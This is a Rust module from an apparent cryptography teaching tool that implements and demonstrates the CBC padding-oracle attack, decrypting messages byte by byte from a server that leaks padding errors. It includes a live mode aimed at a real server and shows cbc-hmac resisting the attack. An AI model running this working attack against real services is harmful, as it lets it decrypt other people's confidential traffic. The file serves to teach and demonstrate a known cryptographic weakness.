//! The padding oracle: decrypting CBC without the key, one byte at a time.
//!
//! **Setup.** A server decrypts cbc messages and tells the sender when the
//! padding is wrong. It might say it in an error message, a different status,
//! or a faster failure. The attacker has one captured body `IV ‖ C_0 ‖ … ‖ C_n`
//! and can send the server whatever bytes they like. That is the *oracle*:
//! a yes/no answer to "is the padding valid?". Here it is a closure,
//! [`attack`]`(body, oracle, …)`; live, it is `serve --leak-padding-errors`.
//!
//! **Attack** (Vaudenay, 2002). To decrypt block `C_i`, send `X ‖ C_i` with a
//! forged previous block `X`. The server computes `P' = D_K(C_i) ⊕ X`. Call
//! `I = D_K(C_i)` the intermediate value: the attacker never sees it, but
//! `P_i = I ⊕ C_{i−1}`. Work from the last byte:
//!
//! ```text
//! byte 15: try X[15] until the padding is valid → P'[15] = 0x01 → I[15] = X[15] ⊕ 0x01
//! byte 14: set X[15] = I[15] ⊕ 0x02, try X[14] until valid → I[14] = X[14] ⊕ 0x02
//! …        (for byte k, pad value p = 16 − k; bytes after k are set to give p)
//! then     P_i[k] = I[k] ⊕ C_{i−1}[k]
//! ```
//!
//! Each byte needs at most 256 guesses. This implementation guesses in order
//! of likelihood: each `X[k]` stands for a guess of the *plaintext* byte,
//! `X[k] = guess ⊕ C_{i−1}[k] ⊕ p`. Guessing space, then e, t, a, o, … first
//! recovers English in a few dozen queries a byte (measured:
//! docs/PERFORMANCE.md). A lucky first answer at byte 15 can also come from a
//! `02 02` ending. That is ruled out by changing `X[14]` and asking again.
//!
//! **Verify.** The recovered plaintext equals the message, byte for byte.
//! Against cbc-hmac the server checks the MAC first, so every forged query
//! fails the same way. The attack gets no signal and stops (see
//! [`OracleError::NoSignal`]).
//!
//! **The demo.** [`narrate`] runs it in-process against
//! [`crate::suite::victims::padding_check`], reporting a
//! [`crate::events::Event::Progress`] after every recovered byte; with
//! [`Options::live`] it attacks a real server instead, over the sockets of
//! [`crate::net::oracle`], with nothing but a captured message.
//! [`headline`] is the tour's two-verdict version.

use super::{DemoCtx, DemoError, broken_if};
use crate::events::Outcome::{Broken, Refused};
use crate::net::oracle::{Base64Oracle, RemoteOracle};
use crate::profiles::{Format, Wire};
use crate::render::Dump;
use crate::suite::pkcs7::BLOCK;
use crate::suite::{Suite, layout, victims};

/// Why the attack stopped.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum OracleError {
    /// The body is not IV plus at least one whole block.
    #[error("a cbc body is an IV and whole 16-byte blocks; this one is {0} bytes")]
    Shape(usize),
    /// No guess for a byte made the oracle say yes: there is no padding signal.
    #[error(
        "no padding signal: all 256 guesses for block {block}, byte {byte} were refused ({queries} queries)"
    )]
    NoSignal {
        /// The ciphertext block being attacked.
        block: usize,
        /// The byte within it.
        byte: usize,
        /// Queries spent.
        queries: u64,
    },
}

/// Progress after each recovered byte.
#[derive(Debug, Clone, Copy)]
pub struct Progress<'a> {
    /// Plaintext recovered so far (in order, padding included).
    pub recovered: &'a [u8],
    /// Bytes to recover in all.
    pub total: usize,
    /// Oracle queries so far.
    pub queries: u64,
}

/// The result of a successful attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Recovery {
    /// The whole plaintext, PKCS#7 padding included.
    pub padded: Vec<u8>,
    /// Oracle queries used.
    pub queries: u64,
}

impl Recovery {
    /// The message without its padding (or the padded bytes if the padding is odd).
    pub fn message(&self) -> &[u8] {
        let len = crate::suite::pkcs7::unpad(&self.padded).unwrap_or(self.padded.len());
        &self.padded[..len]
    }

    /// Queries per recovered byte.
    pub fn per_byte(&self) -> f64 {
        self.queries as f64 / self.padded.len().max(1) as f64
    }
}

/// Plaintext bytes in order of likelihood for English text: space and
/// lower-case letters by frequency, capitals, digits, punctuation, then
/// everything else.
pub fn english_order() -> Vec<u8> {
    let mut order: Vec<u8> = b" etaoinsrhldcumfpgwybvkxjqz".to_vec();
    order.extend(b"ETAOINSRHLDCUMFPGWYBVKXJQZ");
    order.extend(b".,'\"-;:!?()0123456789\n/&@#%*+=_");
    for b in 0..=255u8 {
        if !order.contains(&b) {
            order.push(b);
        }
    }
    order
}

/// Recovers the plaintext of a cbc `body` (IV ‖ ciphertext) with a padding
/// oracle: `oracle(forged_body)` answers whether the padding was valid.
/// `progress` is called after every recovered byte.
pub fn attack(
    body: &[u8],
    mut oracle: impl FnMut(&[u8]) -> bool,
    mut progress: impl FnMut(Progress<'_>),
) -> Result<Recovery, OracleError> {
    if body.len() < 2 * BLOCK || !body.len().is_multiple_of(BLOCK) {
        return Err(OracleError::Shape(body.len()));
    }
    let blocks = body.len() / BLOCK - 1;
    let english = english_order();
    let mut padded = Vec::with_capacity(body.len() - BLOCK);
    let mut queries = 0u64;
    let mut query = [0u8; 2 * BLOCK];
    for i in 0..blocks {
        let prev: &[u8] = &body[i * BLOCK..(i + 1) * BLOCK];
        query[BLOCK..].copy_from_slice(&body[(i + 1) * BLOCK..(i + 2) * BLOCK]);
        let last = i + 1 == blocks;
        let mut inter = [0u8; BLOCK];
        let mut plain = [0u8; BLOCK];
        for k in (0..BLOCK).rev() {
            let p = (BLOCK - k) as u8;
            let mut x = [0u8; BLOCK];
            for j in k + 1..BLOCK {
                x[j] = inter[j] ^ p;
            }
            // In the last block the padding comes first: at byte 15 any pad
            // value 1..=16; inside a pad run already seen, that same value.
            let mut order: Vec<u8> = Vec::with_capacity(256);
            if last {
                let n = plain[BLOCK - 1];
                if k == BLOCK - 1 {
                    order.extend(1..=16u8);
                } else if (1..=16).contains(&n) && k >= BLOCK - usize::from(n) {
                    order.push(n);
                }
            }
            let first = order.clone();
            order.extend(english.iter().filter(|b| !first.contains(b)));
            let mut found = None;
            for guess in order {
                x[k] = guess ^ prev[k] ^ p;
                query[..BLOCK].copy_from_slice(&x);
                queries += 1;
                if !oracle(&query) {
                    continue;
                }
                if k == BLOCK - 1 {
                    // Rule out a valid `02 02` (or longer) ending by changing byte 14.
                    query[BLOCK - 2] ^= 0xff;
                    queries += 1;
                    let still_valid = oracle(&query);
                    query[BLOCK - 2] ^= 0xff;
                    if !still_valid {
                        continue;
                    }
                }
                found = Some(guess);
                break;
            }
            let Some(guess) = found else {
                return Err(OracleError::NoSignal { block: i, byte: k, queries });
            };
            inter[k] = x[k] ^ p;
            plain[k] = guess;
            let mut shown = padded.clone();
            shown.extend(&plain[k..]);
            progress(Progress { recovered: &shown, total: blocks * BLOCK, queries });
        }
        padded.extend_from_slice(&plain);
    }
    Ok(Recovery { padded, queries })
}

/// This demo's row in the registry ([`super::DEMOS`]).
pub const DEMO: super::DemoEntry = super::DemoEntry {
    name: "padding-oracle",
    about: "Decrypt CBC with a server that reports bad padding",
    headline,
};

/// The secret of the in-process demo, unless `--message` says otherwise.
pub const DEFAULT_MESSAGE: &str = "Meet me at the old mill at nine. Bring the key, and tell no one.";

/// The settings of `cryptolab demo padding-oracle`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Options {
    /// The secret the in-process victim seals.
    pub message: Vec<u8>,
    /// Attack a live server instead of the in-process one.
    pub live: Option<Live>,
}

impl Default for Options {
    fn default() -> Self {
        Options { message: DEFAULT_MESSAGE.as_bytes().to_vec(), live: None }
    }
}

/// A live target: a leaky server, and a message captured from its traffic.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Live {
    /// `HOST:PORT`.
    pub target: String,
    /// What the server speaks.
    pub wire: Wire,
    /// The captured bytes: a whole native frame, or a b64-iv-ct message's
    /// body (IV ‖ ciphertext), as decoded from `--frame`.
    pub captured: Vec<u8>,
}

/// How a captured message is written on the command line for a target
/// speaking `wire` — or `None` if there is no padding oracle to attack there.
pub fn captured_as(wire: Wire) -> Option<CapturedAs> {
    match wire {
        Wire::Native => Some(CapturedAs::Hex),
        Wire::Format(Format::B64IvCt) => Some(CapturedAs::Base64),
        Wire::Format(Format::LenIvCtHmac | Format::B64Ecb | Format::RawCbcStatic | Format::RsaGcmJson) => {
            None
        }
    }
}

/// How `--frame` is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CapturedAs {
    /// The whole native frame in hex (`cryptolab proxy --json` prints it so).
    Hex,
    /// The message's base64 text, as on the wire.
    Base64,
}

/// Why the live attack could not run, or stopped.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum LiveError {
    /// The captured bytes are not one whole native frame.
    #[error("--frame is not a whole frame: {0}")]
    NotAFrame(crate::wire::WireError),
    /// The captured frame is not in cbc.
    #[error("--frame is a {0} frame")]
    NotCbc(Suite),
    /// The format has no padding oracle to ask.
    #[error("no padding oracle for --wire {}", .0.name())]
    NoOracle(Wire),
    /// The server could not be reached.
    #[error("cannot reach {target}: {err}")]
    Unreachable {
        /// `HOST:PORT`.
        target: String,
        /// What it speaks.
        wire: Wire,
        /// Why.
        err: std::io::Error,
    },
    /// The server's answers do not tell valid padding from invalid: no
    /// oracle to attack (checked before the attack, and after it).
    #[error("{target} gives no padding signal: {why}")]
    NoSignal {
        /// `HOST:PORT`.
        target: String,
        /// What showed it.
        why: String,
    },
    /// The server runs the handshake: it sent no hello of its own, and a
    /// frame captured on another connection means nothing on this one.
    #[error(
        "{target} sent nothing first: it runs the key-exchange handshake, so a frame \
         captured on another connection was sealed with that connection's keys"
    )]
    Handshake {
        /// `HOST:PORT`.
        target: String,
    },
    /// The connection failed in the middle of the attack.
    #[error("connection to {target} failed during the attack: {err}")]
    Lost {
        /// `HOST:PORT`.
        target: String,
        /// Why.
        err: std::io::Error,
    },
}

impl LiveError {
    /// What to try.
    pub fn hint(&self) -> &'static str {
        match self {
            LiveError::NotAFrame(_) => "copy the frame's full hex",
            LiveError::NoSignal { .. } => {
                "the attack needs a server that answers bad padding differently from good \
                 (`serve --mode cbc --leak-padding-errors`); one that answers everything alike, \
                 or checks a MAC first, gives nothing to read"
            }
            LiveError::NotCbc(_) => {
                "the padding oracle attacks cbc; authenticated suites give no padding signal"
            }
            LiveError::NoOracle(_) => "the live attack speaks native (cbc) and b64-iv-ct",
            LiveError::Unreachable { wire, .. } => match wire {
                Wire::Format(Format::B64IvCt) => {
                    "is the b64-iv-ct server (or a proxy in front of it) running there?"
                }
                Wire::Native
                | Wire::Format(
                    Format::LenIvCtHmac | Format::B64Ecb | Format::RawCbcStatic | Format::RsaGcmJson,
                ) => "is `cryptolab serve --mode cbc --leak-padding-errors --static-keys` running there?",
            },
            LiveError::Lost { .. } => {
                "is the server still running? Each query is one message: it may limit or drop them"
            }
            LiveError::Handshake { .. } => {
                "run the server and the client with --static-keys (INSECURE), or attack inside the \
                 victim's session: `cryptolab proxy --oracle-port PORT`, then --target 127.0.0.1:PORT"
            }
        }
    }

    /// Whether the network failed (rather than the input being wrong).
    pub fn is_failure(&self) -> bool {
        match self {
            LiveError::NotAFrame(_) | LiveError::NotCbc(_) | LiveError::NoOracle(_) => false,
            LiveError::Unreachable { .. }
            | LiveError::Lost { .. }
            | LiveError::NoSignal { .. }
            | LiveError::Handshake { .. } => true,
        }
    }
}

/// Reports the attack's progress after each byte: the bytes so far, and
/// the queries they cost (drawn on a terminal as one line, redrawn).
fn report_progress(ctx: &DemoCtx, p: Progress<'_>) {
    let done = p.recovered.len();
    let bar: String = (0..10).map(|i| if i * p.total < 10 * done { '#' } else { '.' }).collect();
    let shown: Vec<char> = crate::render::ascii(p.recovered, '.').chars().collect();
    let tail: String = shown[shown.len().saturating_sub(20)..].iter().collect();
    ctx.progress(DEMO.name, done as u64, p.total as u64, format!("[{bar}] {} queries: {tail}", p.queries));
}

/// Narrates the demo: a vulnerable cbc server (in-process), the attack with
/// its progress, the result and its cost; then the same attack against
/// cbc-hmac. With [`Options::live`], the attack on a live server instead.
pub fn narrate(ctx: &mut DemoCtx, opts: &Options) -> Result<(), DemoError> {
    if let Some(live) = &opts.live {
        return narrate_live(ctx, live);
    }
    let secret = &opts.message[..];
    ctx.announce_keys();
    ctx.title("Demo: the padding oracle — decrypting CBC without the key");
    let server = ctx.cipher(Suite::Cbc);
    let body = server.seal(&[], secret, &mut ctx.rng);
    ctx.step("1. A captured cbc body. The server that reads such messages says when the padding is bad (INSECURE).");
    ctx.dump(Dump::new("captured", &body).spans(layout::body_spans(Suite::Cbc, 0, body.len())));
    ctx.step("2. The attack: forge the block before each target block, one byte at a time.");
    ctx.say("   The oracle answers only yes/no: \"was the padding valid?\". Guesses go in English order.");
    let result = attack(&body, |forged| victims::padding_check(&server, forged), |p| report_progress(ctx, p));
    match result {
        Ok(rec) => {
            ctx.dump(
                Dump::new("recovered, without the key", &rec.padded)
                    .spans(layout::plaintext_spans(rec.message().len(), rec.padded.len())),
            );
            let exact = rec.message() == secret;
            ctx.verdict(
                DEMO.name,
                "cbc",
                broken_if(exact),
                format!(
                    "cbc: recovered {} bytes{} with {} oracle queries, {:.1} per byte (a blind search averages 128).",
                    rec.padded.len(),
                    if exact { ", exactly the secret," } else { "" },
                    rec.queries,
                    rec.per_byte()
                ),
            );
        }
        Err(e) => ctx.verdict(DEMO.name, "cbc", Refused, format!("cbc: {e}")),
    }
    ctx.step("3. The same attack against cbc-hmac: the MAC is checked before the padding.");
    cbc_hmac_verdict(ctx, secret, |e| format!("cbc-hmac: {e}. Every forgery is \"message rejected\"."));
    Ok(())
}

/// The attack against cbc-hmac, and its verdict: refused (the MAC is
/// checked before the padding), in the words `why` gives the error.
fn cbc_hmac_verdict(ctx: &mut DemoCtx, secret: &[u8], why: impl FnOnce(&OracleError) -> String) {
    match against_cbc_hmac(ctx, secret) {
        Ok(_) => ctx.verdict(DEMO.name, "cbc-hmac", Broken, "cbc-hmac: recovered (this must never happen)"),
        Err(e) => ctx.verdict(DEMO.name, "cbc-hmac", Refused, why(&e)),
    }
}

/// The tour's version: a short secret recovered in cbc; no signal from cbc-hmac.
pub fn headline(ctx: &mut DemoCtx) -> Result<(), DemoError> {
    let secret = b"Meet me at noon. Bring the map.";
    ctx.say("padding-oracle: a server that says \"bad padding\" decrypts cbc for the attacker.");
    let server = ctx.cipher(Suite::Cbc);
    let body = server.seal(&[], secret, &mut ctx.rng);
    match attack(&body, |forged| victims::padding_check(&server, forged), |_| {}) {
        Ok(rec) => ctx.verdict(
            DEMO.name,
            "cbc",
            broken_if(rec.message() == secret),
            format!(
                "cbc: recovered \"{}\" in {} yes/no queries ({:.1} per byte)",
                String::from_utf8_lossy(rec.message()),
                rec.queries,
                rec.per_byte()
            ),
        ),
        Err(e) => ctx.verdict(DEMO.name, "cbc", Refused, format!("cbc: {e}")),
    }
    cbc_hmac_verdict(ctx, secret, |e| {
        format!("cbc-hmac: the MAC is checked first, so no oracle ({} queries, no signal)", e.queries())
    });
    Ok(())
}

impl OracleError {
    /// The queries spent before the attack stopped.
    pub fn queries(&self) -> u64 {
        match self {
            OracleError::Shape(_) => 0,
            OracleError::NoSignal { queries, .. } => *queries,
        }
    }
}

/// The attack against cbc-hmac: the attacker forges the cbc part
/// (IV ‖ ciphertext) and keeps the tag; the receiver says only
/// accepted/rejected ([`victims::accepts`]), and rejects every forgery.
fn against_cbc_hmac(ctx: &mut DemoCtx, secret: &[u8]) -> Result<Recovery, OracleError> {
    let server = ctx.cipher(Suite::CbcHmac);
    let body = server.seal(&[], secret, &mut ctx.rng);
    let (cbc_part, tag) = body.split_at(body.len() - Suite::CbcHmac.tag_len());
    attack(cbc_part, |forged| victims::accepts(&server, &[forged, tag].concat()), |_| {})
}

/// The attack on a live leaky server, over its socket ([`crate::net::oracle`]):
/// the captured message and nothing else — no key.
fn narrate_live(ctx: &mut DemoCtx, live: &Live) -> Result<(), DemoError> {
    let target = &live.target;
    let unreachable = |err| LiveError::Unreachable { target: target.clone(), wire: live.wire, err };
    /// One oracle question: does this forged IV ‖ block have valid padding?
    type Ask = Box<dyn FnMut(&[u8]) -> std::io::Result<bool>>;
    let (body, mut ask): (Vec<u8>, Ask) = match live.wire {
        Wire::Native => {
            let frame = &live.captured;
            let (header, body) = crate::wire::decode_frame(frame, crate::wire::DEFAULT_MAX_BODY)
                .map_err(LiveError::NotAFrame)?;
            if header.suite != Suite::Cbc {
                return Err(LiveError::NotCbc(header.suite).into());
            }
            let mut oracle = RemoteOracle::connect(target, Suite::Cbc).map_err(|err| {
                if err.kind() == std::io::ErrorKind::TimedOut {
                    DemoError::from(LiveError::Handshake { target: target.clone() })
                } else {
                    DemoError::from(unreachable(err))
                }
            })?;
            ctx.say(format!(
                "Live padding oracle against {target}: frame seq {} ({} bytes), no key.",
                header.seq,
                frame.len()
            ));
            (body.to_vec(), Box::new(move |q: &[u8]| oracle.ask(q)))
        }
        Wire::Format(Format::B64IvCt) => {
            let body = live.captured.clone();
            let mut oracle = Base64Oracle::connect(target).map_err(unreachable)?;
            ctx.say(format!(
                "Live padding oracle against the b64-iv-ct server at {target}: a {}-byte message, no key.",
                body.len()
            ));
            (body, Box::new(move |q: &[u8]| oracle.ask(q)))
        }
        other @ Wire::Format(
            Format::LenIvCtHmac | Format::B64Ecb | Format::RawCbcStatic | Format::RsaGcmJson,
        ) => {
            return Err(LiveError::NoOracle(other).into());
        }
    };
    calibrate(target, &body, &mut ask)?;
    let mut failure = None;
    let mut last = (0, 0);
    let result = attack(
        &body,
        |forged| match ask(forged) {
            Ok(answer) => answer,
            Err(e) => {
                failure.get_or_insert(e);
                false
            }
        },
        |p| {
            last = (p.recovered.len(), p.total);
            report_progress(ctx, p);
        },
    );
    if last.0 < last.1 {
        // The attack stopped early: end the progress line.
        ctx.progress(DEMO.name, last.1 as u64, last.1 as u64, "stopped");
    }
    if let Some(err) = failure {
        return Err(LiveError::Lost { target: target.clone(), err }.into());
    }
    if let Ok(rec) = &result
        && crate::suite::pkcs7::unpad(&rec.padded).is_err()
    {
        let why = "the bytes the answers gave fail their own padding check".to_string();
        return Err(LiveError::NoSignal { target: target.clone(), why }.into());
    }
    match result {
        Ok(rec) => {
            ctx.dump(
                Dump::new("recovered over the network, without the key", &rec.padded)
                    .spans(layout::plaintext_spans(rec.message().len(), rec.padded.len())),
            );
            ctx.verdict(
                DEMO.name,
                target.clone(),
                Broken,
                format!(
                    "recovered \"{}\" with {} queries to the server, {:.1} per byte.",
                    String::from_utf8_lossy(rec.message()),
                    rec.queries,
                    rec.per_byte()
                ),
            );
        }
        Err(e) => ctx.verdict(DEMO.name, target.clone(), Refused, e.to_string()),
    }
    Ok(())
}

/// Asks the server two questions whose answers are known before the
/// attack spends a query on the unknown: the captured message's last two
/// blocks (`C_{n−1} ‖ C_n`: its own valid padding) and the same with the
/// last byte of `C_{n−1}` flipped by `0xff` (the last plaintext byte, a pad
/// value 1–16, becomes 0xee–0xfe: never valid padding). A padding oracle
/// says yes, then no. Any other pair of answers — the same answer twice —
/// means this server gives nothing to read, and the attack does not start
/// (so it can never read a yes from a server that always says yes). A test
/// query the network loses is a network failure, as during the attack.
fn calibrate(
    target: &str,
    body: &[u8],
    ask: &mut dyn FnMut(&[u8]) -> std::io::Result<bool>,
) -> Result<(), LiveError> {
    let no_signal = |why: String| LiveError::NoSignal { target: target.to_string(), why };
    if body.len() < 2 * BLOCK || !body.len().is_multiple_of(BLOCK) {
        return Ok(()); // the attack refuses the shape itself, with its own words
    }
    let valid = body[body.len() - 2 * BLOCK..].to_vec();
    let mut invalid = valid.clone();
    invalid[BLOCK - 1] ^= 0xff;
    // A test query the network loses is a network failure, as in the attack.
    let said =
        |r: std::io::Result<bool>| r.map_err(|err| LiveError::Lost { target: target.to_string(), err });
    match (said(ask(&valid))?, said(ask(&invalid))?) {
        (true, false) => Ok(()),
        (a, b) if a == b => Err(no_signal(format!(
            "it answered a message with valid padding and one with invalid padding alike ({})",
            if a { "both accepted" } else { "both refused" }
        ))),
        (_, _) => Err(no_signal("it accepted invalid padding and refused valid padding".to_string())),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn calibration_needs_a_yes_for_valid_padding_and_a_no_for_invalid() {
        let body = [3u8; 48];
        let oracle = |answer: fn(&[u8]) -> bool| move |q: &[u8]| Ok(answer(q));
        let unchanged = |q: &[u8]| q[BLOCK - 1] == 3;
        assert!(calibrate("t", &body, &mut oracle(unchanged)).is_ok());
        for always in [|_: &[u8]| true, |_: &[u8]| false] {
            let err = calibrate("t", &body, &mut oracle(always)).unwrap_err();
            assert!(err.to_string().starts_with("t gives no padding signal: it answered"), "{err}");
        }
        let mut closed = |_: &[u8]| Err(std::io::Error::from(std::io::ErrorKind::UnexpectedEof));
        assert!(matches!(calibrate("t", &body, &mut closed), Err(LiveError::Lost { .. })));
    }

    #[test]
    fn english_order_is_a_permutation_of_all_bytes() {
        let mut o = english_order();
        assert_eq!(o[0], b' ');
        o.sort_unstable();
        assert_eq!(o, (0..=255u8).collect::<Vec<_>>());
    }

    #[test]
    fn malformed_body_is_refused() {
        assert_eq!(attack(&[0u8; 20], |_| true, |_| {}), Err(OracleError::Shape(20)));
        assert_eq!(attack(&[0u8; 16], |_| true, |_| {}), Err(OracleError::Shape(16)));
    }
}
